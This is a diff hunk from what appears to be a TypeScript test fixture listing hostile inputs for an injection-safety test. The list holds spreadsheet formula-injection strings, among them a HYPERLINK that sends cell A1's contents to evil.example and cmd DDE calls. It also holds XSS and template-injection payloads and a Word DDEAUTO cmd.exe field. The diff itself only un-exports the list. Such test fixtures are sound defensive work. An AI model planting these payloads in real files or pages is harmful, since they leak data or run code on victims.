@@ -10,7 +10,7 @@ import { addDemoOpinions } from '../issue/demo.ts'
 const FORMULAS = ['=HYPERLINK("http://evil.example/"&A1,"看")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)']
 /** What a page would run: each sets a mark or opens a dialog. */
 const SCRIPTS = ['<script>window.ran=1</script>', '<img src=x onerror="window.ran=1;alert(1)">', '"><svg onload=alert(1)>', '</textarea></title></style><script>alert(1)</script>', '\'-alert(1)-\'', '{{constructor.constructor(\'alert(1)\')()}}', 'javascript:alert(1)', '<a href="javascript:alert(1)">点</a>', ']]></w:t><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>', '\u202e反过来的字']
-export const HOSTILE: readonly string[] = [...FORMULAS, ...SCRIPTS]
+const HOSTILE: readonly string[] = [...FORMULAS, ...SCRIPTS]
 const NEVER = new AbortController().signal
 
 export interface HostileWorld {
